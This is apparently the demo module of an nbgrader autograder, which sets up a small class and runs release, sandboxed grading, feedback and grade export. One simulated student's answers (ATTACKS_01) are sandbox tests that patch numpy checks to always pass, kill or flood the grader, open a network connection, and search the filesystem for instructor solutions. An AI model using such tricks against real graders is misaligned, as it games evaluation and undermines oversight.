"""``make demo``: the TA's whole flow on a small demo class, offline.

    release (nbgrader generate_assignment) -> demo submissions (as nbgrader collect
    would leave them) -> parallel sandboxed grading -> nbgrader autograde (gradebook)
    -> nbgrader generate_feedback -> nbgrader export (grades.csv) -> score table

The class: ada (complete and correct), brook (typical mistakes), casey (breaks the
rules and attacks the grader), drew (never started).
"""

from __future__ import annotations

import datetime
import importlib.util
import json
import shutil
import time
from pathlib import Path

import nbformat

from .assignments import RELEASE, REPO_ROOT, known_assignments, load_assignment
from .classroom import grade_class
from .release import nbgrader_command, write_course_config
from .submissions import build_submission

STUDENTS = ("ada", "brook", "casey", "drew")


def _catalogue(module_name: str):
    path = REPO_ROOT / "tests" / "mutants" / f"{module_name}.py"
    spec = importlib.util.spec_from_file_location(f"mutants_{module_name}", path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def _mutant(catalogue, target: str, name: str) -> str:
    return next(m.source for m in catalogue.MUTANTS if m.target == target and m.name == name)


ATTACKS_01 = {
    "correlate2d": '''
from scipy import signal


def correlate2d(image, kernel):
    return signal.correlate2d(image, kernel, mode="valid")
''',
    "conv2d": '''
import numpy as np

# If the checks ran in this process, these would make every comparison pass.
np.allclose = lambda *args, **kwargs: True
np.array_equal = lambda *args, **kwargs: True
np.testing.assert_allclose = lambda *args, **kwargs: None


class AlwaysEqual(np.ndarray):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False


def conv2d(x, kernel, bias=None, strides=1, padding="valid"):
    return np.zeros(3).view(AlwaysEqual)
''',
    "max_pool2d": '''
import os


def max_pool2d(x, pool_size=2, strides=None, padding="valid"):
    os._exit(0)  # take the grader down with it?
''',
    "avg_pool2d": '''
import socket
import subprocess


def avg_pool2d(x, pool_size=2, strides=None, padding="valid"):
    subprocess.Popen(["sleep", "600"], start_new_session=True)  # left running on purpose
    try:
        socket.create_connection(("1.1.1.1", 80), timeout=2).sendall(b"my hidden inputs")
    except OSError:
        pass
    x = np.asarray(x, dtype=float)
    ph, pw = (pool_size, pool_size) if np.ndim(pool_size) == 0 else pool_size
    strides = (ph, pw) if strides is None else strides
    sh, sw = (strides, strides) if np.ndim(strides) == 0 else strides
    if padding == "same":
        th = max((-(-x.shape[1] // sh) - 1) * sh + ph - x.shape[1], 0)
        tw = max((-(-x.shape[2] // sw) - 1) * sw + pw - x.shape[2], 0)
        x = np.pad(x, ((0, 0), (th // 2, th - th // 2), (tw // 2, tw - tw // 2), (0, 0)),
                   constant_values=np.nan)
    windows = np.lib.stride_tricks.sliding_window_view(x, (ph, pw), axis=(1, 2))[:, ::sh, ::sw]
    return np.nanmean(windows, axis=(-2, -1))
''',
    "flatten": '''
def flatten(x):
    while True:  # never returns
        pass
''',
    "conv2d_fast": '''
import sys


def conv2d_fast(x, kernel, bias=None, strides=1, padding="valid"):
    for _ in range(20000):
        print("flooding the grader's log " * 20)
    sys.exit("bye")
''',
    "conv2d_multiply_adds": '''
import os


def conv2d_multiply_adds(input_shape, kernel_size, filters, strides=1, padding="valid"):
    # Go looking for the instructor's solutions and hidden checks.
    for root in ("/work", "/srv", "/home", "/root", "/tmp", os.path.expanduser("~")):
        for folder, subfolders, files in os.walk(root):
            if folder.count(os.sep) > 5:
                subfolders[:] = []
            for name in files:
                if name.endswith(".ipynb") and "solutions" in folder or name.startswith("test_cost"):
                    return open(os.path.join(folder, name)).read()
    raise FileNotFoundError("could not find the instructor's files")
''',
}


def _class_module(assignment_id: str):
    """An assignment may define its demo class in autograder/checks/<id>/demo_class.py."""
    path = load_assignment(assignment_id).checks_dir / "demo_class.py"
    if not path.exists():
        return None
    spec = importlib.util.spec_from_file_location(f"demo_class_{assignment_id}", path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def demo_class(assignment_id: str, folder: Path | None = None) -> dict[str, nbformat.NotebookNode]:
    """The demo students' notebooks. ``folder`` is where their handed-in files go, if any."""
    module = _class_module(assignment_id)
    if module is not None:
        return module.students(folder)
    if assignment_id == "01_convolution_by_hand":
        mutants = _catalogue("convolution_by_hand")
        mistakes = {
            "conv2d": _mutant(mutants, "conv2d", "'same' puts the extra row and column at the top/left"),
            "avg_pool2d": _mutant(mutants, "avg_pool2d", "'same' average counts the padding as zeros"),
            "flatten": _mutant(mutants, "flatten", "channels-first order"),
            "conv2d_fast": _mutant(mutants, "conv2d_fast", "correct values but loops over output positions"),
            "conv2d_multiply_adds": _mutant(mutants, "conv2d_multiply_adds", "forgets the input channels"),
        }
        return {
            "ada": build_submission(assignment_id),
            "brook": build_submission(assignment_id, mistakes, written=False),
            "casey": build_submission(assignment_id, ATTACKS_01, written=False),
            "drew": build_submission(assignment_id, started=False),
        }
    raise KeyError(f"no demo class for {assignment_id}")


def broken_submissions_01() -> dict[str, str]:
    """Two more students of 01 whose notebooks cannot be graded, each costing only themselves:
    erin copied her relu cell in JupyterLab (the same graded cell twice), finn's upload was cut."""
    notebook = build_submission("01_convolution_by_hand", written=False)
    index = next(i for i, cell in enumerate(notebook.cells)
                 if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "relu")
    copy = nbformat.from_dict(json.loads(json.dumps(notebook.cells[index])))
    copy["id"] = "relu-copy"
    notebook.cells.insert(index + 1, copy)
    whole = nbformat.writes(build_submission("01_convolution_by_hand"))
    return {"erin": nbformat.writes(notebook), "finn": whole[: len(whole) // 3]}


def write_submissions(course_root: Path, assignment_id: str) -> None:
    """Place submissions where nbgrader collect would: submitted/<student>/<assignment>/."""
    notebook_name = load_assignment(assignment_id).notebook_name
    stamp = datetime.datetime(2026, 11, 20, 17, 0, tzinfo=datetime.timezone.utc)
    staging = course_root / "staging" / assignment_id
    for student, notebook in demo_class(assignment_id, staging).items():
        folder = course_root / "submitted" / student / assignment_id
        folder.mkdir(parents=True, exist_ok=True)
        for artifact in (staging / student).glob("*") if (staging / student).is_dir() else []:
            shutil.copy(artifact, folder / artifact.name)  # trained models handed in with the notebook
        nbformat.write(notebook, folder / f"{notebook_name}.ipynb")
        (folder / "timestamp.txt").write_text(stamp.strftime("%Y-%m-%d %H:%M:%S.%f %Z"))
    if assignment_id == "01_convolution_by_hand":
        for student, text in broken_submissions_01().items():
            folder = course_root / "submitted" / student / assignment_id
            folder.mkdir(parents=True, exist_ok=True)
            (folder / f"{notebook_name}.ipynb").write_text(text)
            (folder / "timestamp.txt").write_text(stamp.strftime("%Y-%m-%d %H:%M:%S.%f %Z"))


def run_demo(course_root: Path, workers: int = 2, assignments: list[str] | None = None,
             release_root: Path = RELEASE, engine: str = "dask") -> int:
    course_root = course_root.resolve()
    if course_root.exists():
        if not (course_root / ".demo-course").exists():
            raise SystemExit(f"{course_root} exists and is not a demo course; refusing to delete it.")
        shutil.rmtree(course_root)  # the demo course is rebuilt from scratch every time
    course_root.mkdir(parents=True)
    (course_root / ".demo-course").write_text("made by 'python -m autograder demo'; safe to delete\n")
    write_course_config(course_root, release_root)
    started = time.perf_counter()
    for assignment_id in assignments or known_assignments():
        print(f"\n=== {assignment_id} ===")
        print("1. release: nbgrader generate_assignment (solutions/ -> assignments/, gradebook)")
        nbgrader_command(course_root, "generate_assignment", assignment_id, "--force")
        print("2. collect: demo submissions in submitted/<student>/", assignment_id)
        write_submissions(course_root, assignment_id)
        print("3. autograde: hidden checks in the sandbox, in parallel; scores into the gradebook")
        grade_class(assignment_id, course_root, workers=workers, engine=engine)
        print("4. feedback: nbgrader generate_feedback")
        nbgrader_command(course_root, "generate_feedback", assignment_id, "--force")
    print("\n5. export: nbgrader export -> grades.csv")
    nbgrader_command(course_root, "export", "--to", str(course_root / "grades.csv"))
    print(f"\nDone in {time.perf_counter() - started:.0f} s.")
    print(f"  grades:    {course_root / 'grades.csv'}")
    print(f"  feedback:  {course_root / 'feedback'}/<student>/<assignment>/*.html")
    print(f"  results:   {course_root / 'autograder-results'}/<assignment>/<student>.json")
    return 0
